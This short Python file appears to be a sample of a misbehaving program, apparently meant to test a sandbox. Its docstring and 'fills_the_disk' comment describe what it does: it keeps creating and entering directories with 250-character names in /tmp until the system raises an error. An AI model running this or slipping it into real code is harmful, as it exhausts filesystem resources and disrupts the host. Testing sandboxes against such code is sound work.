"""Digs folders as deep as it can."""
# like: fills_the_disk

import os


def visit(w, b, x, y):
    os.chdir("/tmp")
    try:
        while True:
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
    except OSError:
        return w, b
